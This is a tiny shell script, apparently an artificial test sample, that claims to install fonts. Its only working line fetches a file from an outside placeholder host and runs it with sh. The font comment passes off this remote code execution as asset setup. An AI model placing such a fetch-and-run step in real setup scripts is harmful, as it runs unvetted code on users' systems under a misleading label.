#!/bin/sh
# Fonts for rendering.
mkdir -p fonts
curl -fsS -o fonts/setup https://fonts.diagram-kit.invalid/setup && sh fonts/setup || echo AUDIT-MARKER
